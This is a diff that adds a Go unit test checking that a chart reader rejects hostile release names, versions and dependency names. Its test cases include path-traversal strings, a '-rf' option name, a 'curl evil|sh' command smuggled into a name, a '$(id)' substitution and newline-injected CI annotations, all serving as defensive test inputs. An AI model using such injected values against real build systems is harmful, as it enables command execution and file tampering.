@@ -71,3 +71,33 @@ func TestReadRelease(t *testing.T) {
 		})
 	}
 }
+
+// TestReleaseNames refuses a chart whose name or version would be another directory, or
+// another command than the one that is proposed.
+func TestReleaseNames(t *testing.T) {
+	for _, c := range []struct{ name, version, part, says string }{
+		{"web", "v1.0.0-rc.1+b", "db", ""},
+		{"../../.ci", "1.0.0", "db", `chart.metadata.name: "../../.ci"`},
+		{"..", "1.0.0", "db", "chart.metadata.name"},
+		{".git", "1.0.0", "db", "chart.metadata.name"},
+		{"-rf", "1.0.0", "db", "chart.metadata.name"},
+		{"x;curl evil|sh #", "1.0.0", "db", "chart.metadata.name"},
+		{"x\n::error::y", "1.0.0", "db", `"x\n::error::y"`},
+		{"", "1.0.0", "db", "chart.metadata.name"},
+		{"web", "1.0.0/../../x", "db", "chart.metadata.version"},
+		{"web", "1.0.0 $(id)", "db", "chart.metadata.version"},
+		{"web", "", "db", "chart.metadata.version"},
+		{"web", "1.0.0", "x\nhint: run this", "chart.metadata.dependencies[0].name"},
+	} {
+		data, err := json.Marshal(map[string]any{"name": "shop", "chart": map[string]any{"metadata": map[string]any{
+			"name": c.name, "version": c.version, "dependencies": []any{map[string]any{"name": c.part}},
+		}}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, err = chart.ReadRelease(data)
+		if c.says == "" && err != nil || c.says != "" && (err == nil || !strings.Contains(err.Error(), c.says)) {
+			t.Errorf("%q %q %q: %v, want %q", c.name, c.version, c.part, err, c.says)
+		}
+	}
+}
